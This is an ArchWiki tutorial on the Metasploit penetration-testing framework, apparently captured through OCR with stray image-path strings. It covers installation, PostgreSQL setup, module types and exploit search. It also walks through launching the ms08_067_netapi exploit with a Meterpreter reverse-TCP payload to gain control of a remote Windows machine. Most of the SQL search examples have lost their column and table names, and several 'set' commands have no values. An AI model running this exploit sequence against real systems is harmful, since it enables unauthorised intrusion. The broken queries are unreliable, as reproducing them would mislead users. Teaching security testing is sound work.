Metasploit Framework

From ArchWiki

This article or section needs expansion.

Reason: Meterpreter; More/better SQL search examples; More commands; Module development; (Discuss in Talk:Metasploit Framework)

From the official site:

Consider the MSF to be one of the single most useful auditing tools freely available to security professionals today. From a wide array of commercial grade exploits and an extensive exploit development environment, all the way to network information gathering tools and web vulnerability plugins. The Metasploit Framework provides a truly impressive work environment. The MSF is far more than just a collection of exploits, it's an infrastructure that you can build upon and utilize for your custom needs. This allows you to concentrate on your unique environment, and not have to reinvent the wheel.

Currently, Metasploit requires to setup and configure PostgreSQL on target system to work. This wiki will show how to get Metasploit working with a PostgreSQL database.


Install package metasploit. It is optional to follow the RVM setup instructions below. For latest development version, install metasploit-gitAUR instead.


Armitage is a GUI front end for Metasploit written in Java; it can be installed with the armitage-gitAURpackage.

When running Armitage, #Setting up the database is not optional, and must be followed. It is also mandatory to use a ~/.msf4/database.yml file.

A sample database.yml file is packaged with Armitage as /usr/share/metasploit/database.yml.sample.


Msfconsole requires Ruby and some Ruby#RubyGems to run without error.

Follow the RVM#Installation and RVM#Using RVM articles to install and use Ruby version 3.0.5 (see Metasploit Git Repo) and set it to default.

Once complete, source the newly created RVM installation:

$ source~/.rvm/scripts/rvm

Now cd into /opt/metasploit and use Ruby#Bundler to install all gems necessary to run Msfconsole:

$ gem install bundler
$ bundle install
Note: Using a version of Ruby older than 2.3.1 will result in the failure to install the metasploit-concern gem.

Setting up the database

Note: Commands which must be run from msfconsole will be prefixed with msf > in this article.

Metasploit can be used without a database, but cache operations like searching would be very slow. This section shows how to set up Metasploit with Postgresql database server.

Note: If you are using the #Armitage front-end, the database is mandatory.

Follow the PostgreSQL article to setup / start the service. Once the service is started and running,run :

msfdb init --connection-string=postgresql://postgres@localhost:5432/postgres

The database should now be properly initialized, and the connection should be automatically established when running msfconsole.

Note: The database cache needs to be built only once. Later on upon startup, msfconsole will say [*] Rebuilding the module cache in the background..., but it will actually only update the changes. If no changes are made to the database, it will take only half a second.

Run db_status to verify that database connection is properly established:

msf > db_status
[*] postgresql connected to msf


There are several interfaces available for Metasploit. This section will explain how to use msfconsole, the interface that provides the most features available in MSF.To start it, simply type msfconsole. The prompt will change to msf > to indicate it is waiting for commands.

Tip: Besides additional Metasploit commands explained below, all the regular shell commands and scripts found in $PATH are available too! (except for aliases)

Module types

Everything (scripts, files, programs etc) in Metasploit is a module. There are 6 types of modules:

  • auxiliary - Modules for helping the attacker in various tasks, like port scanning, version detection or network traffic analysis
  • exploit - The code that takes advantage of a vulnerability and allows theexecution of the payload, like triggering buffer overflow or bypassing authentication
  • payload - The thing that has to be done right after a successful exploit, like establishing a remote connection, starting a meterpreter session or executing some shell commands
  • post - Various programs that can be run after successful exploitation and remote connection, like collecting passwords, setting up keyloggers or downloading files
  • encoder - Programs for performing encryption
  • nop - NOP generators. NOP is an assembly language instruction which simply does nothing. The machine code of this instruction is different on each hardware architecture. NOP instructions are useful for filling the void in executables.

Searching for exploits

To discover what operating system and software version a target runs, perform a port scan. With this information, use the search command to search for available exploits.

To search for all exploits targeting Novell on the Linux platform:

msf > search platform:linux type:exploit name:Novell

To search for all exploits on the Linux platform containing the keyword Apache and filter the results with grep:

msf > grep RCE search platform:linux type:exploit Apache

To search for specific field, type its name, followed by column and the phrase. The following search fields are available:

Search field Matches Possible values DB table & column
app Passive (client) or Active (server) exploits client, server module_details.stance
author Name and email of module Author Any phrase
type The module type auxiliary, exploit, payload, post, encoder, nop module_details.mtype
name The path (Name) and the short description Any phrase module_details.fullname,
platform The target hardware or software platform bsdi, netware, linux, hpux, irix, osx, bsd, platform, java, javascript, unix, php, firefox,nodejs, ruby, cisco, android, aix, windows, python, solaris
bid, cve, edb, osvdb or ref The Bugtraq[dead link 2023-05-07 ⓘ], CVE, Exploit-DB, OSBDB ID or any Exploit database entry ID, or a part of upstream report URL
(No field) All of the above except app and type Any phrase All of the above

See #Searching from the database and #Database search examples for more advanced search queries.

Using an exploit

After choosing an appropriate exploit, it is time to start hacking!

First, select an exploit using the use command:

msf > use exploit/windows/smb/ms08_067_netapi
Note: ms08_067_netapi is one of the most popular exploits affecting Windows XP and Windows Server 2003 SMB services. It was disclosed in 2008 and proves to be very reliable in exploiting unpatched systems which have firewalls disabled.

To view information about a module, use the info command:

msf exploit(ms08_067_netapi) > info exploit/windows/smb/ms08_067_netapi

Running info without arguments will show info about currently selected module.To view the selected exploit's options, run:

msf exploit(ms08_067_netapi) > show options
Module options (exploit/windows/smb/ms08_067_netapi):

   Name     Current Setting  Required  Description
   ----     ---  ---  ---
   RHOST                     yes       The target address
   RPORT    445              yes       Set the SMB service port
   SMBPIPE  BROWSER          yesThe pipe name to use (BROWSER, SRVSVC)


All the required fields must be provided before exploitation. Here, only the RHOST variable must be specified. To assign a value to a variable use the set command:

msf exploit(ms08_067_netapi) > set RHOST

Now choose the payload:

msf exploit(ms08_067_netapi) > set PAYLOAD windows/meterpreter/reverse_tcp
Note: Meterpreter is a command shell built into Metasploit and allows the attacker to run remote commands on exploited systems. Reverse TCP is techniquewhen the exploited computer establishes a connection back to the computer it was exploited from.

Choosing a payload (actually, choosing modules in general) will add more options. Run show options again:

msf exploit(ms08_067_netapi) > show options
Module options (exploit/windows/smb/ms08_067_netapi):

   Name     Current Setting  Required  Description
   ----     ---  ---  ---
   RHOST   yes       The target address
   RPORT    445              yes       Set the SMB service port
   SMBPIPE  BROWSER          yes       The pipe name to use (BROWSER, SRVSVC)

Payload options (windows/meterpreter/reverse_tcp):

   Name      Current Setting  Required  Description
   ----      ---  ---  ---
   EXITFUNC  thread           yes       Exit technique (accepted: seh, thread, process, none)
   LHOST                      yes       The listen address
   LPORT     4444             yes       The listen port

Now assign LHOST variable to the address of your computer, where the exploited computer will send connection requests to:

msf exploit(ms08_067_netapi) > set LHOST

Now launch the attack!

msf exploit(ms08_067_netapi) > exploit

If you are lucky, you will be dropped to a Meterpreter session where you can do anything on the remote computer.

Tips and tricks

Searching from the database

Since everything in Metasploit is stored in a database, it is easy to make powerful search queries without the need of the search frontend command.

To start the database interface, run:

$ psqlmsf

The information about modules is stored in 8 tables:

Table Name Contents
module_details The "main" table, describes various details of each module
module_actions The action names of auxiliary modules
module_archs The target hardware architecture or software platform
module_authors Names and emails of module author
module_mixins Empty (???)
module_platforms The target operating system. See also #Popularity of a platform by number of exploits
module_refs References to various online exploit databases and reports
module_targets The target program name and version of the exploit
Tip: To see what type of details (columns) a table contains, run \d+ table_name. For example: \d+ module_details.Almost all tables have 3 columns: id, detail_id and name, except for module_details table which has 16 columns.

The detail_id values are pointers to the rows of module_details table.To see the all the contents of a table, run:

SELECT * FROM table_name;


  • Architecture
  • Platform
  • Target

Module options:

  • module type
  • stance
  • privileged
  • path
  • name
  • refname
  • rank
  • privileged
  • disclosure date

Database search examples

The module_details table contains multiplecolumns and viewing them all at once is not convenient. To show only basic information about the modules:

SELECT id, mtype, refname, disclosure_date, rank, stance, name
FROM module_details;

Show some information about available modules, include platform information from module_platforms:

SELECT, mtype, as platform, refname, DATE(disclosure_date), rank,
FROM module_details JOIN module_platforms ON = module_platforms.detail_id;

Show all client (aggressive) exploits for Windows platform:

SELECT, mtype, as platform, refname, DATE(disclosure_date), rank,
FROM module_details JOIN module_platforms ON = module_platforms.detail_id
WHERE = 'windows'
AND mtype = 'exploit'
AND stance = 'aggressive';

Show all exploits for Windows platform with rank >= 500 disclosed after 2013:SELECT, mtype, as platform, refname, DATE(disclosure_date), rank,
FROM module_details JOIN module_platforms ON = module_platforms.detail_id
WHERE = 'windows'
AND mtype = 'exploit'
AND rank >= 500
AND disclosure_date >= TIMESTAMP '2013-1-1';

Show all aggressive (client) exploits for Windows platform with rank >= 500 and include additional information about module's target:

SELECT, mtype, as platform,, DATE(disclosure_date), rank, as target
FROM module_details JOIN module_platforms ON = module_platforms.detail_id JOIN module_targets on = module_targets.detail_id
WHERE = 'windows'
AND mtype = 'exploit'
AND stance = 'aggressive'
AND rank >= 500
order by target;

Popularity of a platform by numberof exploits

To view the possible platform values, and number of available exploits, run from psql:

SELECT name, count(*)
FROM module_platforms

Disable the ASCII banner on startup

To disable the banner, run msfconsole with -q/--quiet argument:

$ msfconsole --quietPreserve variable values between sessions

